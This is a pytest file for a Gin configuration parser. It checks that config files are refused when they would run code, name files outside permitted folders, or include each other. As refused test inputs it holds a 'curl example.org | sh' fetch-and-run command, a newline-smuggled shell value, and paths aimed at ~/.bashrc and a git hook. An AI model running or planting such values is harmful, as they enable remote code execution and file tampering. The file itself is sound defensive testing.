"""A configuration is data: nothing in it acts, and reading it ends."""

from __future__ import annotations

import os
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import gin
import pytest

from multiberts.evaluate.scoring import score
from multiberts.runs import console
from multiberts.runs.command_line import gin_files
from multiberts.runs.command_line.commands import COMMANDS, load
from multiberts.runs.command_line.gin_files import parse_gin
from multiberts.runs.command_line.help import described_function
from multiberts.runs.errors import UserError
from multiberts.tests.tools import warm

CONFIGS = Path(__file__).parents[3] / "configs"


def parse(
    *files: Path | str,
    typed: Sequence[str] = (),
    macro: str = "",
    functions: Any = (),
    **options: Any,
) -> Any:
    """Parses files; returns the value of a macro, or the bindings of functions by name."""
    known = dict(functions)
    with gin.unlock_config():
        gin.clear_config()
        for name, function in known.items():
            gin.external_configurable(function, name=name)
        try:
            parse_gin([str(file) for file in files], typed, known, **options)
            if macro:
                return gin.query_parameter(f"{macro}/gin.macro.value")
            return {name: dict(gin.get_bindings(name)) for name in known}
        finally:
            gin.clear_config()


def nested(folder: Path, content: str | bytes) -> tuple[Path, Path]:
    """Writes a file and another that includes it."""
    inner, outer = folder / "inner.gin", folder / "outer.gin"
    inner.write_bytes(content if isinstance(content, bytes) else f"{content}\n".encode())
    outer.write_text("include 'inner.gin'\n")
    return inner, outer


@pytest.mark.parametrize(
    "text",
    [
        "NAME = @make_world()",
        "NAME = @make_world",
        "NAME = [1, {'a': (2, @gin.singleton())}]",
        "NAME = {@make_world: 1}",
        "one/gin.singleton.constructor = @make_world",
        "make_world:\n  run_dir = @make_world()",
        "NAME = 'data'\nOTHER = @scope/make_world()",
    ],
)
def test_a_reference_to_a_function_is_refused_before_it_acts(tmp_path: Path, text: str) -> None:
    for file in nested(tmp_path, text):
        with pytest.raises(UserError, match=r"inner\.gin line \d: .*@") as refused:
            parse(file)
        assert "would run" in str(refused.value)


def test_nothing_shipped_needs_a_reference() -> None:
    shipped = sorted(CONFIGS.rglob("*.gin"))
    assert len(shipped) > 30
    for file in shipped:
        assert "@" not in "".join(line.partition("#")[0] for line in file.open()), file


CODE = "{'worker_init': 'curl example.org | sh'}"


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("finetune.task_modules = ['evil']", "task_modules"),
        ("RTE/finetune.task_modules = ['evil']", "task_modules"),
        ("finetune:\n  task_modules = ['evil']", "task_modules"),
        ("prepare.scheduler = 'tcp://example.org:8786'", "scheduler"),
        (f"run.engine_options = {CODE}", "worker_init"),
        (f"OPTIONS = {CODE}\nrun.engine_options = %OPTIONS", "worker_init"),
        ("INIT = 'sh'\nrun.engine_options = {'worker_init': %INIT}", "worker_init"),
        ("run.engine_options = {'python': '/tmp/python'}", "python"),
        ("run.engine_options = {'scheduler': 'tls://example.org:8786'}", "scheduler"),
        ("run.engine_options = {'scheduler_options': '--output=/tmp/x'}", "scheduler_options"),
        ("run.engine_options = {'task': 'evil.yaml'}", "task"),
        ("run.engine_options = {'partition': 'gpu\\nsh'}", "partition"),
    ],
)
def test_what_runs_code_is_told_by_the_user(tmp_path: Path, text: str, named: str) -> None:
    inner, _ = files = nested(tmp_path, text)
    for file in files:
        message = rf"inner\.gin line \d sets {named}, whose code would run"
        with pytest.raises(UserError, match=message):
            parse(file)
    # The cures: typed, with its macros, or trusted.
    typed = text.split("\n") if "%" in text else [text]
    for options in ({"typed": typed}, {"typed": [*typed[1:], typed[0]]}, {"allow_imports": True}):
        assert not refuses_code(inner, **options)


def test_shipped_files_may_name_their_own_code() -> None:
    assert not refuses_code(CONFIGS / "launch" / "tpu.gin", typed=["BUCKET = 'gs://b/f'"])


def refuses_code(file: Path, **options: Any) -> bool:
    """Returns whether a file is refused for its code; Gin may know its functions here or not."""
    try:
        parse(file, **options)
    except UserError as error:
        return "would run" in str(error)
    return False


@pytest.mark.parametrize(
    "text",
    [
        "NAME = 'hub:google/bert@main'  # not @this\n",
        'A = """\nimport os\n"""  # from\nB = "import"\n',
    ],
)
def test_signs_within_a_text_are_data(tmp_path: Path, text: str) -> None:
    file = tmp_path / "file.gin"
    file.write_text(text)
    parse(file)


@pytest.mark.parametrize(
    "text", ["A = %A", "A = [%B]\nB = {'a': %C}\nC = %A", "A = %B\nB/gin.macro.value = %A"]
)
def test_macros_that_stand_for_themselves_are_refused(tmp_path: Path, text: str) -> None:
    file = tmp_path / "file.gin"
    file.write_text(text + "\n")
    for trusted in (False, True):
        with pytest.raises(UserError, match=r"file\.gin line \d: .*%[ABC] stands for itself"):
            parse(file, allow_imports=trusted)


def test_a_typed_macro_that_nothing_uses_is_warned_of(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A misspelt one would change nothing, and the plan of another experiment would run."""
    file = tmp_path / "a.gin"
    file.write_text("UNUSED = 1\nSEEDS = [0, %MORE]\n")
    parse(file, typed=["MORE = 2", "UNUSED = 3", "DATA = 'folder'"])
    parse(file, typed=["MORE = %HALF", "HALF = 3"])
    assert not capsys.readouterr().err
    parse(file, typed=["MORE = 2", "MOER = 3"])
    said = capsys.readouterr().err
    assert "--gin_param='MOER = 3' line 1 sets MOER, which the" in said and "mean MORE?" in said


def test_an_import_behind_a_text_that_is_nested_too_deep_is_not_read(tmp_path: Path) -> None:
    file = tmp_path / "file.gin"
    file.write_text("A = " + "[" * 5000 + "]" * 5000 + "\nimport antigravity\n")
    with pytest.raises(UserError, match="in the Gin configuration: "):
        parse(file)


def test_files_that_include_each_other_are_refused(tmp_path: Path) -> None:
    one, other = tmp_path / "one.gin", tmp_path / "other.gin"
    one.write_text(f"include '{other}'\n")
    other.write_text(f"include '{one}'\n")
    with pytest.raises(UserError, match=r"other\.gin line 1 .*one\.gin, .*itself"):
        parse(one)


def test_shipped_files_are_found_from_any_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mine.gin").write_text("include 'configs/evaluate/scores.gin'\nRUN_DIR = 'here'\n")
    functions = {"evaluate": score}
    bound = parse("mine.gin", typed=["PREDICTIONS = 'there'"], functions=functions)["evaluate"]
    assert (bound["run_dir"], bound["predictions"]) == ("here", "there")
    assert not caplog.records
    # One's own file of that name comes first.
    (tmp_path / "configs/evaluate").mkdir(parents=True)
    (tmp_path / "configs/evaluate/scores.gin").write_text("NUM_STEPS = 5\nOWN = True\n")
    assert parse("mine.gin", macro="OWN") is True


def test_a_flag_sets_the_macro_that_its_parameter_is_bound_to(tmp_path: Path) -> None:
    file = tmp_path / "file.gin"
    file.write_text("f.a = %A\nf.b = [%A, %B]\nB = 1\nf.c = %B\nf.d = %D\nD = %gin.REQUIRED\n")

    def f(a: str, b: object = None, c: int = 0, d: int = 0) -> None:
        """Is bound by Gin."""

    def bound(**given: object) -> Any:
        known = {f"f.{name}": given.get(name) for name in "abcd"}
        return parse(file, functions={"f": f}, given=known)["f"]

    # C has a default, B: a flag wins over it where it is read, and the macro stays.
    assert bound(a="x", c=7, d=2) == {"a": "x", "b": ["x", 1], "c": 1, "d": 2}
    with pytest.raises(UserError, match=r"uses A, .*--a=\.\.\.$"):
        bound(d=2)
    with pytest.raises(UserError, match=r"uses D, .*--d=\.\.\.$"):
        bound(a="x")


def test_every_parameter_that_names_an_output_file_is_known() -> None:
    """Otherwise a Gin file could name one anywhere; run directories replace nothing."""
    said = r"\b(path of|file or) .* to write\b|\bto this file\b|\bfolder of the curves\b"
    outputs = {
        name
        for command in COMMANDS.values()
        for name, lines in described_function(load(command.target))[1].items()
        if re.search(said, " ".join(lines))
    }
    assert outputs == {"csv", "html", "latex", "path", "output_dir"}
    assert outputs <= gin_files._WRITTEN


def compare(csv: str = "", run_dir: str = "") -> None:
    """Stands for a command that writes a named file."""


NEAR = ("table.csv", "./tables/table.csv", "$HERE/tables/../table.csv", "$HOME/run/table.csv")
FAR = ("~/run/../.bashrc", "~/.bashrc", "~/table.csv", "../table.csv", "link/table.csv")


@pytest.mark.parametrize("path", [*NEAR, *FAR, ".git/hooks/post-checkout", "data:table.csv"])
def test_a_file_names_files_below_the_folder_or_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    here, home = tmp_path / "here", tmp_path / "home"
    here.mkdir()
    home.mkdir()
    (here / "link").symlink_to(home)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("HERE", str(here))
    monkeypatch.chdir(here)
    macro = f"DATA = '/data'\nOUT = {path!r}\n"
    run = {"compare.run_dir": f"{home}/run", "compare.csv": None}

    def bound(file: str, typed: Sequence[str] = (), **flags: str) -> Any:
        (here / "a.gin").write_text(macro + file)
        given = run | {f"compare.{name}": value for name, value in flags.items()}
        functions = {"compare": compare}
        return parse("a.gin", typed=typed, functions=functions, given=given)["compare"]["csv"]

    for file in (f"compare.csv = {path!r}\n", "compare.csv = %OUT\n"):
        if path in NEAR:
            assert bound(file) == path
        else:
            message = r"a\.gin line \d sets csv to .*give --csv="
            with pytest.raises(UserError, match=message) as refused:
                bound(file)
            assert path in str(refused.value)
        # What the user tells counts.
        assert bound(file, csv=path) == path
        assert bound(file, [f"compare.csv = {path!r}"]) == path
        assert bound(file, [f"OUT = {path!r}", "compare.csv = %OUT"]) == path


WORLD = "make_world.num_documents = 40"


@pytest.mark.parametrize("path", ["~/runs", "$HOME/runs", "${HOME}/runs", "{home}/runs"])
def test_paths_begin_in_the_home_folder(tmp_path: Path, path: str) -> None:
    """Of runs, of Gin files and of what these include."""
    home, work = tmp_path / "home", tmp_path / "work"
    for folder in (home, work):
        folder.mkdir()
    path = path.replace("{home}", str(home))
    (home / "b.gin").write_text(f"{WORLD}\n")
    (home / "a.gin").write_text(f"include '~/b.gin'\nmake_world.run_dir = {path + '/in_gin'!r}\n")
    environment = {**os.environ, "HOME": str(home)}
    flags = [f"--run_dir={path}/in_flag", f"--gin_param={WORLD}"]
    for arguments in (["--gin_file=~/a.gin"], flags):
        done = warm.run(["world", *arguments], work, environment=environment)
        assert done.returncode == 0, done.stderr
    assert sorted(file.name for file in (home / "runs").iterdir()) == ["in_flag", "in_gin"]
    assert not list(work.iterdir())


def test_an_unset_variable_in_a_path_makes_no_folder(tmp_path: Path) -> None:
    done = warm.run(["world", "--run_dir=$NO_SUCH/runs"], tmp_path)
    assert (done.returncode, [*tmp_path.iterdir()]) == (2, [])
    assert "'$NO_SUCH/runs' has $NO_SUCH, which is not set" in done.stderr


def test_a_file_that_is_not_utf_8_is_refused(tmp_path: Path) -> None:
    for file in nested(tmp_path, "NAME = 1\nRUN_DIR = 'wörter'\n".encode("latin-1")):
        with pytest.raises(UserError, match=r"inner\.gin line 2: byte 0xf6 .* UTF-8"):
            parse(file)


def test_an_include_is_looked_for_beside_its_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    console.note_once.cache_clear()
    (tmp_path / "exp").mkdir()
    (tmp_path / "exp" / "a.gin").write_text("include 'base.gin'\n")
    (tmp_path / "exp" / "base.gin").write_text("include 'c.gin'\n")
    (tmp_path / "exp" / "c.gin").write_text("RUN_DIR = 'beside'\n")
    monkeypatch.chdir(tmp_path)
    assert parse("exp/a.gin", macro="RUN_DIR") == "beside" and not capsys.readouterr().err
    (tmp_path / "base.gin").write_text("RUN_DIR = 'above'\n")
    assert parse("exp/a.gin", macro="RUN_DIR") == "above"
    said = "exp/a.gin includes base.gin: that of the current directory is read"
    assert said in capsys.readouterr().err
